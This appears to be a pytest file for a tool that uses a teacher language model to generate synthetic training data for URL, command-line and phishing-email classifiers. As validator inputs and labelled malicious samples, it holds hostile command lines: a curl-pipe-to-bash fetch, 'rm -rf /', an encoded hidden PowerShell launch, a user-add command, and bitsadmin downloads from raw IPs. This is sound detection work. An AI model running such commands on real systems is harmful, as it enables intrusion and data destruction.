"""Synthetic data: taxonomy, filters on real rows, generation through a real llama.cpp server, and mixing."""

import json
from pathlib import Path

import numpy as np
import pytest

from smallworld import data as D
from smallworld import selection
from smallworld.errors import SmallworldError
from smallworld.synth import PLACEHOLDER, SHAPES, _items, _schema, build_prompt, load_taxonomy, max_similarity, synthesize, valid
from smallworld.tasks import BUILTIN, load_task
from tests.conftest import cli


def test_every_builtin_task_ships_a_taxonomy_with_valid_labels():
    for name in BUILTIN:
        task = load_task(name)
        ents = load_taxonomy(task)
        assert len(ents) >= 6, name
        assert {e.label for e in ents} == set(task.labels) or {e.label for e in ents} >= {task.positive}
        assert len({e.id for e in ents}) == len(ents)
    ids = {e.id for e in load_taxonomy(load_task("cmdlines"))}
    assert {"T1003.001", "T1059.001", "T1197"} <= ids  # ATT&CK technique ids


def test_user_taxonomy_extends_and_is_checked(tmp_path):
    task = load_task("urls")
    good = tmp_path / "more.toml"
    good.write_text('[[entry]]\nid = "qr-lure"\nname = "QR code lure"\nlabel = "phishing"\nhint = "a URL behind a QR code"\n')
    ents = load_taxonomy(task, [str(good)])
    assert "qr-lure" in {e.id for e in ents} and len(ents) == len(load_taxonomy(task)) + 1
    bad = tmp_path / "bad.toml"
    bad.write_text('[[entry]]\nid = "x"\nname = "X"\nlabel = "malware"\nhint = "h"\n')
    with pytest.raises(SmallworldError, match="not one of"):
        load_taxonomy(task, [str(bad)])


def test_validity_and_placeholder_filters_on_real_rows(data_dir):
    urls = load_task("urls")
    rows = [r for _, r in zip(range(2000), D.iter_rows(str(data_dir / "urls" / "dev.jsonl.gz")))]
    e = load_taxonomy(urls)[0]
    ok = np.mean([valid(urls, r["text"], e) for r in rows])
    assert ok > 0.95, ok  # real URLs parse
    assert not valid(urls, "not a url at all", e) and not valid(urls, "http://exa mple.com/x", e)
    cmd = load_task("cmdlines")
    ce = [x for x in load_taxonomy(cmd) if x.platform == "linux"][0]
    assert valid(cmd, "curl -fsSL http://203.0.113.7/x.sh | bash", ce)
    assert not valid(cmd, "echo 'unterminated", ce) and not valid(cmd, "ls\nrm -rf /", ce)
    # the documentation placeholders of tldr-pages are exactly what the placeholder filter rejects
    tldr = [r["text"] for r in D.iter_rows(str(data_dir / "cmdlines" / "dev.jsonl.gz")) if r["source"] == "tldr-pages"]
    hit = np.mean([bool(PLACEHOLDER.search(t)) for t in tldr])
    assert hit > 0.2, hit
    for t in ("http://example.com/login", "powershell -c <payload>", "copy {PATH} x", "Dear [Recipient],",
              r"powershell -File C:\Users\[User]\Downloads\[FileName].ps1", "net stop service_name",
              r"EXCEL.EXE C:\Users\username\Documents\q3.xlsx"):
        assert PLACEHOLDER.search(t), t
    for t in ("https://login.microsoftonline.com/common/oauth2/authorize", '[System.IO.File]::ReadAllText("a.txt")',
              r"C:\Users\jdoe\AppData\Local\a.exe", "net user username /add"):
        assert not PLACEHOLDER.search(t), t


def test_generated_command_lines_repaired_and_prose_refused(data_dir):
    """A model that writes C:\\temp unescaped in its JSON answer gives a tab: put back; a description of a command
    is no command. Real command lines (every source of train) pass both."""
    from smallworld.synth import is_prose, repair_cmdline

    cmd = load_task("cmdlines")
    we = [x for x in load_taxonomy(cmd) if x.platform == "windows"][0]
    answer = r'{"items": ["mshta c:\temp\task.hta", "robocopy C:\backup D:\backup2 /MIR", "type C:\files\readme.txt"]}'
    damaged = [t for t, _ in _items(answer, SHAPES["cmdlines"])]  # the answer as a model writes it: single backslashes, read as escapes
    assert all(any(ord(c) < 32 for c in t) for t in damaged) and not any(valid(cmd, t, we) for t in damaged)
    fixed = [repair_cmdline(t) for t in damaged]
    assert fixed == [r"mshta c:\temp\task.hta", r"robocopy C:\backup D:\backup2 /MIR", r"type C:\files\readme.txt"]
    assert all(valid(cmd, t, we) for t in fixed)
    assert is_prose("creating a new user account with specific permissions")
    assert is_prose("Windows Update Service") and is_prose("PDF Reader Update")
    assert not is_prose("net user backup P4ss /add") and not is_prose("echo done") and not is_prose("Get-Process")
    real = [r["text"] for _, r in zip(range(5000), D.iter_rows(str(data_dir / "cmdlines" / "train.jsonl.gz")))]
    assert np.mean([is_prose(t) for t in real]) < 0.01
    assert np.mean([repair_cmdline(t) == t for t in real]) > 0.99
    # a command under a title, as the teacher wrote some endpoint background
    assert is_prose("Windows Update (silent): wuauclt.exe /detectnow /norestart")
    assert is_prose("Google Chrome Update (silent): chrome://settings/update?hl=en-US")
    assert not is_prose(r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule")
    assert not is_prose("Get-ChildItem: C:\\") and not is_prose("echo Done: 3 files")


def test_a_numbered_series_is_one_item_among_the_generated_rows():
    """`C:\\temp\\test2.exe`, `test3.exe`, ... from one answer are the same row to the exact-duplicate filter;
    different commands with different numbers are not."""
    from smallworld.synth import SynthReport, _cheap_filters

    cmd = load_task("cmdlines")
    we = [x for x in load_taxonomy(cmd) if x.platform == "windows"][0]
    texts = [r"C:\temp\test2.exe /run", r"C:\temp\test3.exe /run", r"C:\temp\test41.exe /run", "ping -n 4 10.0.0.1",
             "ping -n 4 10.0.0.2", "net user svc01 /add", "tasklist /v"]
    rep = SynthReport()
    kept = [t for t, _, _ in _cheap_filters(cmd, SHAPES["cmdlines"], [(t, we, None) for t in texts], [], 0, rep)]
    assert kept == [r"C:\temp\test2.exe /run", "ping -n 4 10.0.0.1", "net user svc01 /add", "tasklist /v"]
    assert rep.dropped == {"duplicate in batch": 3}


def test_near_duplicates_of_training_data_score_as_not_novel(data_dir):
    rows = [r["text"] for _, r in zip(range(300), D.iter_rows(str(data_dir / "urls" / "train.jsonl.gz")))]
    sig = selection.minhash_signatures(rows)
    assert np.allclose(max_similarity(sig[:20], sig), 1.0)  # every row is its own nearest neighbour
    fresh = selection.minhash_signatures(["https://zz-unrelated-host-4471.net/qq/ww/ee?rr=tt"])
    assert max_similarity(fresh, sig)[0] < 0.5


def test_answers_parsed_leniently():
    assert _items('{"items": ["a b", "c"]}', SHAPES["urls"]) == [("a b", None), ("c", None)]
    assert _items('Sure! ```json\n{"items": ["x"]}\n```', SHAPES["urls"]) == [("x", None)]
    assert _items('{"items": ["line one\nline two"]}', SHAPES["cmdlines"]) == [("line one\nline two", None)]  # raw newline
    assert _items("no json here", SHAPES["urls"]) is None
    em = _items('{"items": [{"subject": "Invoice  due", "body": "Please pay."}]}', SHAPES["emails"])
    assert em == [("Subject: Invoice due\nPlease pay.", None)]


def test_items_of_a_context_task_come_with_their_event(tmp_path):
    """A task with ``context`` asks for each command line's image, parent and user; a field that is no path, holds a
    placeholder or is empty is left out of the event, the item kept; a bare string is no item of such a task."""
    from smallworld.synth import _schema, build_prompt, context_fields

    base = (Path(__file__).parents[1] / "smallworld" / "tasks" / "cmdlines.toml").read_text()
    toml = tmp_path / "cmdlines.toml"
    toml.write_text('context = ["image", "parent_image", "parent_command_line", "user"]\n' + base)
    task = load_task(str(toml))
    fields = context_fields(task)
    assert fields == ("image", "parent_image", "user")  # the parent's command line is not asked for
    assert context_fields(load_task("cmdlines")) == ()
    sch = _schema(SHAPES["cmdlines"], 4, fields)["properties"]["items"]
    assert sch["minItems"] == 4 and sch["items"]["required"] == ["command_line", "image", "parent_image", "user"]
    e = next(x for x in load_taxonomy(task) if x.id == "office-parent-attacks")
    prompt = build_prompt(task, SHAPES["cmdlines"], e, 4, fields=fields)
    assert '"parent_image"' in prompt and '"command_line"' in prompt and '"parent_command_line"' not in prompt
    answer = json.dumps({"items": [
        {"command_line": "powershell -nop -w hidden -enc SQBFAFgA", "image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
         "parent_image": r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "user": "CORP\\mlopez"},
        {"command_line": "rundll32 C:\\Users\\Public\\a.dll,Start", "image": "rundll32",
         "parent_image": r"C:\Users\username\Downloads\x.exe", "user": "  "},
        "whoami /all"]})
    got = _items(answer, SHAPES["cmdlines"], fields)
    assert got[0] == ("powershell -nop -w hidden -enc SQBFAFgA", {
        "image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "parent_image": r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "user": "CORP\\mlopez"})
    assert got[1] == ("rundll32 C:\\Users\\Public\\a.dll,Start", {})  # no path, a placeholder, blank: left out
    assert len(got) == 2


def test_synth_cli_against_a_real_server(llama_server, tmp_path, data_dir):
    seed = tmp_path / "seed.jsonl"
    D.write_jsonl(seed, [r for _, r in zip(range(400), D.iter_rows(str(data_dir / "urls" / "train.jsonl.gz")))])
    out = tmp_path / "syn.jsonl"
    args = ["synth", "--task", "urls", "--n", "6", "--entries", "raw-ip,benign-docs", "--teacher", llama_server.url,
            "--labelled", seed, "--out", out, "--cache", tmp_path / "c.sqlite", "--threshold", "0.2"]
    r = cli(*args)
    rep = json.loads((tmp_path / "syn.jsonl.report.json").read_text())
    assert rep["calls"] >= 2 and rep["usage"]["calls"] >= rep["calls"]
    assert rep["generated"] == rep["kept"] + sum(rep["dropped"].values())
    assert set(rep["per_entry"]) == {"raw-ip", "benign-docs"}
    assert "filter" in r.stdout and "per taxonomy entry" in r.stdout
    rows = D.read_rows(str(out)) if rep["kept"] else []
    for row in rows:
        assert row["source"] in ("synthetic:urls/raw-ip", "synthetic:urls/benign-docs")
        assert row["label"] == ("phishing" if row["source"].endswith("raw-ip") else "benign")
        assert valid(load_task("urls"), row["text"], load_taxonomy(load_task("urls"))[0])
        assert 0 <= row["meta"]["novelty"] <= 1 and row["meta"]["teacher_p"] >= 0.2
    # everything was paid for once: a rerun is served from the cache
    cli(*args)
    assert json.loads((tmp_path / "syn.jsonl.report.json").read_text())["usage"]["calls"] == 0


def test_synth_writes_each_row_with_its_event_for_a_context_task(llama_server, tmp_path, data_dir):
    """For a task with ``context``, a real server's grammar-bound answers are objects; the rows keep the event they
    came with (the teacher verified each row with it), so training reads the parent-child words from them."""
    base = (Path(__file__).parents[1] / "smallworld" / "tasks" / "cmdlines.toml").read_text()
    toml = tmp_path / "cmdlines.toml"
    toml.write_text('context = ["image", "parent_image", "user"]\n' + base)
    seed = tmp_path / "seed.jsonl"
    D.write_jsonl(seed, [r for _, r in zip(range(300), D.iter_rows(str(data_dir / "cmdlines" / "train.jsonl.gz")))])
    out = tmp_path / "syn.jsonl"
    cli("synth", "--task", toml, "--n", "8", "--entries", "office-parent-attacks,windows-services", "--teacher",
        llama_server.url, "--labelled", seed, "--out", out, "--cache", tmp_path / "c.sqlite", "--threshold", "0",
        "--timeout", "300")  # four objects an answer: a longer answer than the plain test's
    rep = json.loads((tmp_path / "syn.jsonl.report.json").read_text())
    assert rep["unparseable_answers"] < rep["calls"] and rep["generated"] > 0
    assert rep["generated"] == rep["kept"] + sum(rep["dropped"].values())
    rows = D.read_rows(str(out)) if rep["kept"] else []
    with_event = [r for r in rows if "event" in r]
    for r in with_event:
        assert set(r["event"]) <= {"image", "parent_image", "user"} and r["event"]
        assert all(("\\" in v or "/" in v) for k, v in r["event"].items() if k != "user")
        assert "\n" not in r["text"]
    assert with_event, rows  # the small model does write the fields


def test_training_takes_synthetic_rows_and_refuses_unmarked_ones(tmp_path, data_dir):
    train = str(data_dir / "cmdlines" / "train.jsonl.gz")
    # rows as `smallworld synth` writes them, for a technique the seed lacks (BITS jobs)
    syn = [{"id": f"syn-{i}", "text": t, "label": "malicious", "source": "synthetic:cmdlines/T1197", "weight": 1.0}
           for i, t in enumerate([f"bitsadmin /transfer job{i} /download /priority high http://185.22.{i}.9/u.exe "
                                  f"C:\\Users\\Public\\u{i}.exe" for i in range(30)])]
    sp = tmp_path / "syn.jsonl"
    D.write_jsonl(sp, syn)
    probe = "bitsadmin /transfer upd /download http://91.200.3.4/svc.exe C:\\ProgramData\\svc.exe"
    scores = {}
    for name, extra in (("without", []), ("with", ["--synthetic", sp])):
        out = tmp_path / name
        cli("train", "--task", "cmdlines", "--labelled", train, "--seed-size", "300", "--teacher", "none",
            "--out", out, *extra)
        r = cli("score", out, "-", "--probs", input=probe + "\n")
        scores[name] = json.loads(r.stdout.splitlines()[0])["probs"]["malicious"]
        man = json.loads((out / "manifest.json").read_text())
        assert man["counts"]["synthetic"] == (30 if name == "with" else 0)
    logit = {k: np.log(v / (1 - v)) for k, v in scores.items()}
    assert logit["with"] > logit["without"] + 1.0, scores  # the student learned the technique it lacked
    unmarked = tmp_path / "unmarked.jsonl"
    D.write_jsonl(unmarked, [dict(r, source="atomic-red-team") for r in syn])
    r = cli("train", "--task", "cmdlines", "--labelled", train, "--seed-size", "300", "--teacher", "none",
            "--out", tmp_path / "x", "--synthetic", unmarked, check=False)
    assert r.returncode != 0 and "synthetic:" in r.stderr


def test_items_that_echo_the_prompt_are_caught():
    from smallworld.synth import echoes_prompt

    e = [x for x in load_taxonomy(load_task("cmdlines")) if x.id == "T1197"][0]
    assert echoes_prompt("BITS Jobs (T1197): bitsadmin /create, /addfile to download and run a payload", e)
    assert echoes_prompt("bitsadmin /create, /addfile, /SetNotifyCmdLine, /resume", e)
    # the answer's label or the task's name written into the item as if it were a path
    assert echoes_prompt("cmdlines/benign/IT_management_agent_backup_script.bat", e)
    assert echoes_prompt("cmdlines: backup_script_1", e) and not echoes_prompt("ls -la /srv/benign", e)
    assert not echoes_prompt("bitsadmin /transfer upd /download /priority foreground http://91.2.3.4/a.exe C:\\Users\\Public\\a.exe", e)


def test_email_placeholder_slots_are_repaired_or_removed():
    from smallworld.synth import repair_email

    text, n = repair_email("Subject: Payroll\nDear [Employee Name], confirm at [Portal Link] .\nThanks, [Your Name]", 3)
    assert n == 3 and "[" not in text and "Dear " in text and not PLACEHOLDER.search(text)
    assert repair_email("Subject: hi\nno slots here", 0) == ("Subject: hi\nno slots here", 0)


def test_mail_prompts_draw_a_style_per_call_and_repeat_it_on_a_rerun():
    from smallworld.synth import EMAIL_STYLES, build_prompt, email_style

    task = load_task("emails")
    e = next(x for x in load_taxonomy(task) if x.id == "legit-invoice")
    shape = SHAPES["emails"]
    styles = [email_style(s) for s in range(40)]
    assert styles == [email_style(s) for s in range(40)]  # the same prompts again: a rerun is served by the cache
    assert len(set(styles)) >= 35
    langs = {lang for lang in EMAIL_STYLES["language"] if any(f"Language: {lang}." in s for s in styles)}
    assert "English" in langs and len(langs) >= 4
    styled, plain = build_prompt(task, shape, e, 1, style=styles[0]), build_prompt(task, shape, e, 1)
    assert styles[0] in styled and "40 to 100 words" not in styled
    assert "40 to 100 words" in plain and "Writer:" not in plain


def test_entries_are_chosen_by_id_label_or_group(tmp_path):
    """`--entries endpoint-benign` is the endpoint background the seed lacks: the same entries as their ids, in the
    taxonomy's order; an unknown name and a malformed groups key are clear errors."""
    from smallworld.synth import choose_entries

    cmd = load_task("cmdlines")
    ents = load_taxonomy(cmd)
    grp = choose_entries(cmd, ents, ids="endpoint-benign")
    assert len(grp) >= 10 and {e.label for e in grp} == {"benign"}
    assert any(e.platform == "windows" for e in grp) and any(e.platform == "linux" for e in grp)
    assert choose_entries(cmd, ents, ids=",".join(e.id for e in reversed(grp))) == grp
    both = choose_entries(cmd, ents, ids="endpoint-benign,T1003.001")
    assert len(both) == len(grp) + 1 and both[0].id == "T1003.001"  # the taxonomy's order
    with pytest.raises(SmallworldError, match="unknown taxonomy entries or groups.*endpoint-benin"):
        choose_entries(cmd, ents, ids="endpoint-benin")
    # a group spans the built-in taxonomy and a --taxonomy file (the extra entries come after the built-ins)
    extra = load_taxonomy(cmd, [str(Path(__file__).parent.parent / "bench/tasks/endpoint_attacks.toml")])
    atk = choose_entries(cmd, extra, ids="endpoint-attacks")
    assert [e.id for e in atk[:2]] == ["office-parent-attacks", "lolbins-full-path"] and len(atk) == 6
    assert {e.label for e in atk} == {"malicious"} and len(choose_entries(cmd, ents, ids="endpoint-attacks")) == 2
    bad = tmp_path / "tax.toml"
    bad.write_text('[[entry]]\nid = "x"\nname = "X"\nlabel = "benign"\nhint = "h"\ngroups = "one"\n')
    with pytest.raises(SmallworldError, match="groups must be a list"):
        load_taxonomy(cmd, [str(bad)])


def test_items_per_call_set_the_prompt_the_schema_and_are_bounded():
    from dataclasses import replace

    task = load_task("emails")
    entry = load_taxonomy(task)[0]
    three = replace(SHAPES["emails"], per_call=3)
    assert "Write 3 different realistic emails of this kind" in build_prompt(task, three, entry, 3)
    items = _schema(three, 3)["properties"]["items"]
    assert items["minItems"] == items["maxItems"] == 3 and items["items"]["required"] == ["subject", "body"]
    for bad in (0, 11):  # refused before any teacher call
        with pytest.raises(SmallworldError, match="per_call must be between 1 and 10"):
            synthesize(task, None, 6, [entry], per_call=bad)
    r = cli("synth", "--task", "emails", "--n", "3", "--per-call", "0", "--out", "x.jsonl", check=False)
    assert r.returncode != 0 and "--per-call" in r.stderr and not (Path(__file__).parents[1] / "x.jsonl").exists()
